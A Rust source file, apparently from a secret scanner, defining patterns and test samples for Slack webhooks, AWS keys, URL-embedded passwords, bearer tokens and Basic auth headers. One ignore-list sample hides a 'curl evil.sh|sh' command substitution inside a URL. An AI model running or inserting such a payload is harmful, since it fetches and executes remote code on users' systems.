//! The forms of secrets that only the text around them tells: in addresses, headers and settings.

use super::forms::{A16, A20, Before, Form};
use super::judge::{drawn, in_authorization, in_odd_url, in_url, not_an_example};

pub(super) static PLACES: [Form; 7] = [
    Form {
        kind: "Slack webhook",
        anchors: &["hooks.slack.com/services/"],
        pattern: r"hooks\.slack\.com/services/T[A-Z0-9]{6,14}/B[A-Z0-9]{6,14}/(?P<secret>[A-Za-z0-9]{20,40})",
        before: Before::Anything,
        judge: drawn,
        is_token: false,
        examples: &[&[
            "https://hooks.slack.com/services/T0123ABCD/B0123ABCD/",
            A20,
            "u6vW",
        ]],
        others: &["https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"],
    },
    Form {
        kind: "AWS secret key",
        anchors: &[
            "secret_access_key",
            "SECRET_ACCESS_KEY",
            "secretAccessKey",
            "SecretAccessKey",
            "aws_secret_key",
        ],
        pattern: r#"[A-Za-z_]{14,17}\\?["']?[\x20\t]{0,4}[=:][\x20\t]{0,4}\\?["']?(?P<secret>[A-Za-z0-9/+]{40})"#,
        before: Before::Anything,
        judge: |found| not_an_example(found) && drawn(found),
        is_token: false,
        examples: &[
            &["aws_secret_access_key = ", A20, "/", A16, "abc"],
            &["\"SecretAccessKey\": \"", A20, "+", A16, "abc"],
        ],
        others: &[
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "secret_access_key: the_key",
        ],
    },
    Form {
        kind: "password",
        anchors: &["://"],
        pattern: r#"://(?P<name>[^\x00-\x20/?\#'"<>`\\@:$\{\}()%]*):(?P<secret>(?:[^\x00-\x20/?\#'"<>`\\$\{\}()%]|%[0-9A-Fa-f]{2})+)@"#,
        before: Before::Anything,
        judge: in_url,
        is_token: false,
        examples: &[
            &["postgres://ada:", "hunter2hunter2", "@db/telecoder"],
            &["https://ada:", "p@ss:word1", "@example.com/x"],
            &["redis://:", "c0rrect%40horse", "@cache:6379"],
        ],
        others: &[
            "postgresql://{user}:{password}@{host}",
            "postgres://$DB_USER:$DB_PASS@db",
            "mysql://${U}:${P}@db and mysql://%s:%s@%s and postgres://%(user)s:%(password)s@db",
            "https://<name>:<password>@host",
            "postgres://postgres:postgres@localhost",
            "https://user:password@host",
            "docker://alpine:3.18@sha256:0123456789abcdef",
            "https://u:$(curl${IFS}evil.sh|sh)@github.com/x/y",
            "http://localhost:3000,ada@example.com",
            "https://ada:…@example.com",
            "https://ada:***@example.com",
        ],
    },
    Form {
        // One with marks in it that should have been written as `%2F`, `%3F` or `%23`.
        kind: "password",
        anchors: &["://"],
        // Never `//`: else each of many addresses in a row would be searched to the end of all.
        pattern: r#"://(?P<name>[^\x00-\x20/?\#'"<>`\\@:$\{\}()%]*):(?P<secret>[^\x00-\x20/?\#'"<>`\\@$\{\}()%]*(?:[?\#]|/[^\x00-\x20/'"<>`\\@$\{\}()]?)(?:/?[^\x00-\x20/'"<>`\\@$\{\}()])*/?)@[A-Za-z0-9.-]+"#,
        before: Before::Anything,
        judge: in_odd_url,
        is_token: false,
        examples: &[
            &["postgres://ada:", "pa/ss1word", "@db/telecoder"],
            &["https://ada:", "h0rse#battery", "@example.com/x"],
        ],
        others: &[
            "http://localhost:3000/@vite/client",
            "https://example.com:8443/a?b=1#c@d.example",
            "http://host:port/path/to@it",
            "https://registry:4873/@scope%2fname",
        ],
    },
    Form {
        kind: "password",
        anchors: &["://"],
        pattern: r#"://(?P<secret>[A-Za-z0-9_-]{21,})(?::[^\x00-\x20/?\#'"<>`\\@]*)?@"#,
        before: Before::Anything,
        judge: drawn,
        is_token: false,
        examples: &[
            &["https://", "0123456789abcdef012345", "@example.com/x"],
            &["https://", A20, "x1:x-oauth-basic@github.com"],
        ],
        others: &[
            "ssh://a-user-with-a-long-name-indeed@host/x",
            "https://packages.example.com/@scope/name",
        ],
    },
    Form {
        kind: "bearer token",
        anchors: &["Bearer ", "bearer ", "BEARER ", "Bearer:", "bearer:"],
        pattern: r"(?i-u:bearer)[\x20:]{1,4}(?P<secret>[A-Za-z0-9._~+/-]{16,}=*)",
        before: Before::Edge,
        judge: drawn,
        is_token: false,
        examples: &[
            &["Authorization: Bearer ", "abc123def456ghi789=="],
            &["bearer ", "qWeRtZuIoPaSdFgHjKlYxCvB"],
            &["Bearer ", "550e8400-e29b-41d4-a716-446655440000"],
        ],
        others: &[
            "Bearer authentication/oauth2.0-flow",
            "bearer of bad news, Bearer authentication-schemes-are-many",
            "Authorization: Bearer YOUR_ACCESS_TOKEN_GOES_HERE",
            "Bearer AuthenticationTokenProviderFactory",
        ],
    },
    Form {
        kind: "password",
        anchors: &["uthorization", "UTHORIZATION"],
        pattern: r#"(?i-u:uthorization)\\?["']?[\x20\t]{0,4}[:=][\x20\t]{0,4}\\?["']?(?i-u:basic)[\x20\t]{1,4}(?P<secret>[A-Za-z0-9+/]{8,}={0,2})"#,
        before: Before::Anything,
        judge: in_authorization,
        is_token: false,
        examples: &[
            &["Authorization: Basic ", "YWRhOmh1bnRlcjJodW50ZXIy"],
            &["\"authorization\": \"Basic ", "YWRhOmh1bnRlcjI=", "\""],
        ],
        others: &[
            "Authorization: Basic authentication",
            "Authorization: Basic dXNlcjpwYXNzd29yZA==",
        ],
    },
];
